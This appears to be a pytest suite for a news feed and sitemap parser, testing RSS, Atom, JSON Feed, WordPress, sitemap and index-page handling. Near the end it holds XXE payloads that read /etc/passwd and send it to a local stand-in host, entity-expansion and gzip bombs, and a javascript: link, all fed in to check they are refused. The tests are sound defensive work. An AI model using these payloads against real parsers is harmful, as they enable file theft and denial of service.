"""Announcements: every format, and every fault of feeds and sitemaps the web is known to have."""

import gzip
import json
from datetime import datetime

import pytest
from support.channels import HOME, SITEMAP, item, paths, read, rss, urlset

from parsers.article import Link, Rejected
from parsers.kinds import Reason
from parsers.source import from_data

NUMBERED = from_data(
    {"name": "contoh", "title": "Contoh", "home": HOME, "article": [{"url": r"/baca/(?P<id>\d+)"}]}
)


def rejection(body, kind="feed", **more):
    with pytest.raises(Rejected) as verdict:
        read(body, kind, **more)
    return verdict.value.reason


def sitemapindex(*entries):
    return f"<sitemapindex {SITEMAP}>{''.join(f'<sitemap>{entry}</sitemap>' for entry in entries)}</sitemapindex>"


def test_rss_2():
    found = read(
        rss(
            "<item><title><![CDATA[Harga <b>beras</b> turun &amp; stabil]]></title><link>https://contoh.example/a?utm_source=rss</link>"
            '<guid isPermaLink="false">contoh-1</guid><pubDate>Tue, 28 May 2024 10:00:00 +0700</pubDate></item>',
        )
    )

    assert (found.kind, found.warnings, found.n_unusable, found.truncated, found.sitemaps) == (
        "rss",
        (),
        0,
        False,
        (),
    )
    assert found.links == (
        Link(
            url="https://contoh.example/a",
            source_id="contoh",
            kind="page",
            discovered_by=HOME + "feed/",
            guid="contoh-1",
            title="Harga beras turun & stabil",
            published_raw="Tue, 28 May 2024 10:00:00 +0700",
            published_at=datetime.fromisoformat("2024-05-28T10:00:00+07:00"),
        ),
    )


def test_rss_1_and_0_9():
    found = read(
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><items><rdf:Seq/></items></channel>'
        f"{item(title='Satu')[:-7]}<dc:date>2024-05-28T10:00:00+07:00</dc:date></item></rdf:RDF>",
    )
    old = read(
        '<!DOCTYPE rss PUBLIC "-//X//DTD RSS 0.91//EN" "http://127.0.0.1:9/rss.dtd"><rss version="0.91"><channel>'
        f"{item()}</channel></rss>"
    )

    assert (found.kind, found.links[0].title, found.links[0].published_at.hour) == (
        "rss",
        "Satu",
        10,
    )
    assert (old.kind, paths(old), old.warnings) == ("rss", ["/a"], ())


def test_rss_in_capitals():
    assert paths(
        read("<RSS><CHANNEL><ITEM><TITLE>Satu</TITLE><LINK>/a</LINK></ITEM></CHANNEL></RSS>")
    ) == ["/a"]


def test_atom():
    found = read(
        '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://contoh.example/kanal/"><title>Contoh</title><entry>'
        '<link rel="self" href="https://contoh.example/api/1"/><link rel="alternate" href="satu"/><id>tag:contoh,1</id>'
        '<title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Satu <b>dua</b></div></title>'
        "<published>2024-05-28T03:00:00Z</published><updated>2024-05-29T03:00:00Z</updated></entry></feed>",
    ).links[0]

    assert (found.url, found.title, found.guid) == (
        "https://contoh.example/kanal/satu",
        "Satu dua",
        "tag:contoh,1",
    )
    assert (found.published_at.day, found.modified_at.day) == (28, 29)


def test_json_feed():
    found = read(
        json.dumps(
            {
                "version": "https://jsonfeed.org/version/1.1",
                "items": [
                    {
                        "id": 7,
                        "url": "/a",
                        "title": "Satu",
                        "date_published": "2024-05-28T10:00:00+07:00",
                        "language": "id",
                    },
                    {"id": "8", "external_url": "https://contoh.example/b"},
                    {"id": "9"},
                    {
                        "id": "https://contoh.example/rekaman.mp3",
                        "attachments": [{"url": "https://contoh.example/rekaman.mp3"}],
                    },
                    "x",
                ],
            }
        )
    )

    assert (found.kind, paths(found), found.n_unusable) == ("jsonfeed", ["/a", "/b"], 2)
    assert (found.links[0].guid, found.links[0].language, found.links[0].published_at.hour) == (
        "7",
        "id",
        10,
    )


def test_wordpress_posts():
    found = read(
        b"\xef\xbb\xbf"
        + json.dumps(
            [
                {
                    "id": 41290,
                    "date": "2024-05-28T10:00:00",
                    "date_gmt": "2024-05-28T03:00:00",
                    "modified_gmt": "2024-05-28T04:00:00",
                    "link": "https://contoh.example/a/",
                    "guid": {"rendered": "https://contoh.example/?p=41290"},
                    "title": {"rendered": "Satu &#8211; <em>dua</em>"},
                }
            ]
        ).encode(),
        "wordpress",
    ).links[0]

    assert (found.url, found.title, found.guid) == (
        "https://contoh.example/a/",
        "Satu – dua",
        "https://contoh.example/?p=41290",
    )
    assert found.published_at.isoformat() == "2024-05-28T03:00:00+00:00"
    assert found.modified_at.isoformat() == "2024-05-28T04:00:00+00:00"


def test_a_post_without_its_time_in_utc_has_it_in_the_zone_of_its_outlet():
    post = {
        "date": "2024-05-28T10:00:00",
        "date_gmt": "0000-00-00T00:00:00",
        "modified": "2024-05-28T11:00:00",
        "modified_gmt": "0000-00-00T00:00:00",
        "link": "https://contoh.example/a/",
    }

    found = read(json.dumps([post]), "wordpress").links[0]

    assert found.published_at.isoformat() == "2024-05-28T10:00:00+07:00"
    assert found.modified_at.isoformat() == "2024-05-28T11:00:00+07:00"


def test_wordpress_says_why_it_has_no_posts():
    with pytest.raises(Rejected, match="rest_post_invalid_page_number"):
        read('{"code": "rest_post_invalid_page_number", "message": "x"}', "wordpress")


def test_sitemap_and_news_sitemap():
    found = read(
        f'<urlset {SITEMAP} xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"'
        ' xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">'
        "<url><image:image><image:loc>https://contoh.example/a.jpg</image:loc><image:title>Foto</image:title></image:image>"
        "<loc>\n https://contoh.example/a \n</loc><news:news><news:publication><news:name>Contoh</news:name>"
        "<news:language>id</news:language></news:publication><news:publication_date>2024-05-28</news:publication_date>"
        "<news:title>Satu</news:title></news:news></url>"
        "<url><loc>https://contoh.example/b</loc><lastmod>2024-05-28T10:00+07:00</lastmod></url></urlset>",
        "sitemap",
    )

    assert (found.kind, paths(found)) == ("sitemap", ["/a", "/b"])
    assert (found.links[0].title, found.links[0].language) == ("Satu", "id")
    assert found.links[0].published_at.isoformat() == "2024-05-28T00:00:00+07:00"
    assert (found.links[1].published_at, found.links[1].modified_at.hour) == (None, 10)


def test_sitemap_index_keeps_to_its_site():
    found = read(
        sitemapindex(
            "<loc>https://contoh.example/s1.xml</loc><lastmod>2024-05-28</lastmod>",
            "<loc>https://peta.contoh.example/s.xml?page=1</loc>",
            "<loc>https://peta.contoh.example/s.xml?page=2</loc>",
            "<loc>https://lain.example/s.xml</loc>",
            "<loc>/s.xml</loc>",
        ),
        "sitemap",
        url=HOME + "s.xml",
    )

    assert (found.kind, found.links, found.n_unusable) == ("sitemapindex", (), 2)
    assert [s.url for s in found.sitemaps] == [
        HOME + "s1.xml",
        "https://peta.contoh.example/s.xml?page=1",
        "https://peta.contoh.example/s.xml?page=2",
    ]
    assert (found.sitemaps[0].kind, found.sitemaps[0].modified_at.day) == ("sitemap", 28)


def test_a_sitemap_index_that_names_only_itself_has_failed():
    assert (
        rejection(sitemapindex(f"<loc>{HOME}s.xml</loc>"), "sitemap", url=HOME + "s.xml")
        == Reason.NO_CONTENT
    )


def test_plain_text_sitemap():
    assert paths(
        read("\ufeffhttps://contoh.example/a\r\nhttps://contoh.example/b\n", "sitemap")
    ) == ["/a", "/b"]


def test_index_page():
    found = read(
        """<html><head><base href="/kanal/"><link rel="next" href="/indeks?page=3"></head><body>
        <a href="/"><img></a> <a href="/tag/harga-beras-hari-ini">Harga beras</a> <a href="javascript:void(0)">x</a>
        <a href="harga-beras-di-pasar-turun?utm_source=x"><img src=x></a> <a href="harga-beras-di-pasar-turun/">Harga
        <b>beras</b></a> <a href="/read/410291">Dua</a> <a href="https://lain.example/satu-dua-tiga-empat">Iklan</a>
        <a href="/foto-satu-dua-tiga.jpg">Foto</a> <a href="/tentang-kami">Tentang</a>
        <a href="/?p=12">Tiga</a></body>""",
        "index",
        url=HOME + "indeks?page=2",
    )

    assert found.kind == "index"
    assert [(link.url.removeprefix(HOME), link.title) for link in found.links] == [
        ("kanal/harga-beras-di-pasar-turun/", "Harga beras"),
        ("read/410291", "Dua"),
        ("?p=12", "Tiga"),
    ]
    assert found.next_page == HOME + "indeks?page=3"


CARDS = """<html><body><nav>Selasa, 28 Mei 2024</nav><div class="daftar">
<article><a href="/baca/1"><img></a><div><a href="/baca/1">Harga beras turun</a><span>Ekonomi</span><span>3 jam yang lalu</span></div></article>
<article><a href="/kanal/bola">Bola</a><h3><a href="/baca/2">Persaja menang kemarin</a></h3><p>Bola | Kemarin, 19:30 WIB</p></article>
<article><a href="/baca/3">Jadwal salat 1 Mei 2024</a><time datetime="2024-05-20T10:00:00+07:00">20 Mei</time></article>
<article><a href="/baca/4"><h3>Pasar ditata</h3><small>Kompas.test - Senin, 20 Mei 2024 | 10:20 WIB</small></a></article>
<article><a href="/baca/5">Tanpa tanggal</a><p>Hingga 20 Mei 2024 pasar itu ditutup.</p></article>
<article><a href="/baca/6">Dua minggu</a><span>2 minggu lalu</span></article>
</div><footer>&copy; 2024-05-28</footer></body></html>"""


def test_the_articles_of_an_index_page_have_the_dates_of_their_cards():
    found = read(
        CARDS,
        "index",
        source=NUMBERED,
        fetched_at=datetime.fromisoformat("2024-05-28T01:30:00+07:00"),
    )
    written = {one.url[-1]: one.published_raw for one in found.links}
    dates = {one.url[-1]: one.published_at and one.published_at.isoformat() for one in found.links}

    assert written == {
        "1": "3 jam yang lalu",
        "2": "Kemarin, 19:30 WIB",
        "3": "2024-05-20T10:00:00+07:00",
        "4": "Senin, 20 Mei 2024 | 10:20 WIB",
        "5": None,
        "6": None,
    }
    assert dates == {
        "1": "2024-05-27T00:00:00+07:00",
        "2": "2024-05-27T00:00:00+07:00",
        "3": "2024-05-20T10:00:00+07:00",
        "4": "2024-05-20T10:20:00+07:00",
        "5": None,
        "6": None,
    }


def test_a_date_between_two_articles_belongs_to_neither():
    found = read(
        '<div><a href="/baca/1">Satu</a><span>20 Mei 2024</span><a href="/baca/2">Dua</a></div>',
        "index",
        source=NUMBERED,
    )

    assert [one.published_at for one in found.links] == [None, None]


def test_a_relative_date_needs_the_moment_of_the_fetch():
    body = rss(item("/a", pubDate="2 jam yang lalu"))
    fetched_at = datetime.fromisoformat("2024-05-28T00:30:00Z")

    assert read(body).links[0].published_at is None
    assert (
        read(body, fetched_at=fetched_at).links[0].published_at.isoformat()
        == "2024-05-28T00:00:00+07:00"
    )


def test_an_index_page_is_read_by_the_pattern_of_the_source():
    found = read(
        '<a href="/baca/7">Tujuh</a><a href="/satu-dua-tiga-empat">x</a>', "index", source=NUMBERED
    )

    assert paths(found) == [
        "/baca/7",
        "/satu-dua-tiga-empat",
    ]  # the second to be counted as refused


@pytest.mark.parametrize(
    ("url", "anchor", "following"),
    [
        ("indeks", '<a href="/indeks?page=2">2</a>', "indeks?page=2"),
        (
            "indeks/page/4/",
            '<a href="/indeks/page/3/">3</a><a href="/indeks/page/5/">5</a>',
            "indeks/page/5/",
        ),
        ("indeks", '<a href="/indeks?page=9">Berikutnya »</a>', "indeks?page=9"),
        ("indeks", '<a href="/x/page/2" rel="nofollow next"></a>', "x/page/2"),
        (
            "indeks",
            '<a href="/baca/8">Selanjutnya</a><link rel="next" href="/indeks?page=2">',
            "indeks?page=2",
        ),
        ("indeks", '<a href="/baca/2">Dua</a><a href="/komentar">2</a>', None),
        ("indeks", '<a rel="next" href="https://lain.example/2">x</a>', None),
        ("indeks", '<a rel="next" href="/indeks#x">x</a>', None),
    ],
)
def test_the_next_page_of_an_index(url, anchor, following):
    found = read(
        f'<html><a href="/baca/7">Tujuh</a>{anchor}', "index", url=HOME + url, source=NUMBERED
    )

    assert found.next_page == (following and HOME + following)


# faults


@pytest.mark.parametrize(
    ("body", "kind", "reason"),
    [
        (b"", "feed", Reason.EMPTY),
        (b" \r\n\0", "sitemap", Reason.EMPTY),
        (b"\xef\xbb\xbf", "index", Reason.EMPTY),
        (rss(), "feed", Reason.NO_CONTENT),
        (urlset(), "sitemap", Reason.NO_CONTENT),
        ("[]", "wordpress", Reason.NO_CONTENT),
        ("<rss/>", "feed", Reason.NO_CONTENT),
        ("<html><a href='/'>Beranda</a></html>", "index", Reason.NO_CONTENT),
        (rss(item("javascript:alert(1)")), "feed", Reason.NO_CONTENT),
        ("<!doctype html><title>Beranda</title><rss>", "feed", Reason.NOT_ARTICLE),
        ("<html>", "sitemap", Reason.NOT_ARTICLE),
        ("halo", "feed", Reason.PARSE_ERROR),
        ("halo", "sitemap", Reason.PARSE_ERROR),
        ("{", "feed", Reason.PARSE_ERROR),
        ("[" * 100_000, "wordpress", Reason.PARSE_ERROR),
        ("{}", "feed", Reason.PARSE_ERROR),
        (b"%PDF-1.7 \xff\x00", "index", Reason.NOT_HTML),
        ("{}", "index", Reason.PARSE_ERROR),
        (b"\x1f\x8b junk", "sitemap", Reason.DECODE),
        (gzip.compress(b"x" * 9999, mtime=0)[:-12], "sitemap", Reason.DECODE),
    ],
)
def test_each_failure_has_its_reason(body, kind, reason):
    assert rejection(body, kind) == reason


def test_a_sitemap_gzipped_without_a_header_is_inflated():
    assert paths(read(gzip.compress(urlset("<loc>/a</loc>").encode()), "sitemap")) == ["/a"]


def test_a_gzip_bomb_is_refused():
    assert rejection(gzip.compress(b" " * (51 * 2**20)), "sitemap") == Reason.TOO_LARGE


@pytest.mark.parametrize(
    ("body", "kept", "warning"),
    [
        (rss(item("/a"), item("/b"))[:-30], ["/a"], "cut in the middle"),
        (
            rss(item("/a"), item("/b")).removesuffix("</channel></rss>"),
            ["/a", "/b"],
            "not well-formed",
        ),
        (
            rss(item("/a"), prolog="Warning: x in y.php\n<br />\n<?xml version='1.0'?>"),
            ["/a"],
            "junk before",
        ),
        (rss(item("/a"), prolog="\n\n<?xml version='1.0'?>"), ["/a"], None),
        (rss(item("/a", title="A & B <x"), item("/b")), ["/a", "/b"], "not well-formed"),
        (rss(item("/a?x=1&y=2")), ["/a?x=1&y=2"], None),
        (rss(item("<![CDATA[/a?x=1&y=2]]>")), ["/a?x=1&y=2"], None),
        (rss(item("/a", title="&nbsp;Caf&eacute;")), ["/a"], None),
        (rss(item("/a", title="x\x0b\x1b[31m")), ["/a"], "control characters"),
        (rss(item("/a", title="&#1;&#xD800;")), ["/a"], None),
        (
            rss("<item><title>Satu</link><link>/a</link></item>", item("/b")),
            ["/a", "/b"],
            "not well-formed",
        ),
        (rss(item("/é")).encode("cp1252"), ["/%C3%A9"], "read as cp1252"),
        (
            rss(item("/é"), prolog="<?xml version='1.0' encoding='utf-8'?>").encode("utf-16"),
            ["/%C3%A9"],
            "read as utf-16",
        ),
        (rss(item("/é"), prolog="").encode("utf-16-le"), ["/%C3%A9"], "read as utf-16-le"),
        (
            rss(item("/é"), prolog="<?xml version='1.0' encoding='iso-8859-1'?>").encode("latin-1"),
            ["/%C3%A9"],
            None,
        ),
        (
            rss(item("/é"), prolog="<?xml version='1.0' encoding='unicode_escape'?>"),
            ["/%C3%A9"],
            None,
        ),
        (
            rss(item("/a"), "<item><media:title>x</media:title><link>/b</link></item>"),
            ["/a", "/b"],
            "not well-formed",
        ),
    ],
)
def test_what_is_whole_is_kept_and_the_fault_is_told(body, kept, warning):
    found = read(body)

    assert paths(found) == kept
    assert warning in found.warnings[0] if warning else found.warnings == ()


def test_a_name_with_an_accent_is_read_and_a_title_never_holds_a_control_character():
    assert read(rss(item(title="&nbsp;Caf&eacute; \x1b[31m\u200b"))).links[0].title == "Café [31m"


@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY x SYSTEM "file:///etc/passwd">',
        '<!ENTITY x PUBLIC "a" "http://127.0.0.1:9/canary">',
        '<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;',
        """<!ENTITY % f SYSTEM "file:///etc/passwd">
       <!ENTITY % e "<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>"> %e; %s;""",
    ],
)
def test_no_entity_is_read_from_anywhere(subset):
    found = read(
        rss(item("/a", title="Satu &x;"), prolog=f'<?xml version="1.0"?><!DOCTYPE rss [{subset}]>')
    )

    assert paths(found) == ["/a"]
    assert found.links[0].title == "Satu &x;"


LAUGHS = '<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
)


PARAMETERS = LAUGHS.replace("ENTITY a", "ENTITY % a").replace("&a", "%a")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    ("subset", "title"),
    [
        (LAUGHS, "&a9;"),
        (PARAMETERS, "%a9;"),
        (f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 50_000),
        ("<!ENTITY a '&a;'>", "&a;"),
    ],
)
def test_entity_bombs_are_refused(subset, title, encoding):
    assert (
        rejection(rss(item(title=title), prolog=f"<!DOCTYPE rss [{subset}]>").encode(encoding))
        == Reason.XML_BOMB
    )


def test_an_innocent_entity_is_no_bomb():
    assert paths(read(rss(item(), prolog='<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>'))) == ["/a"]
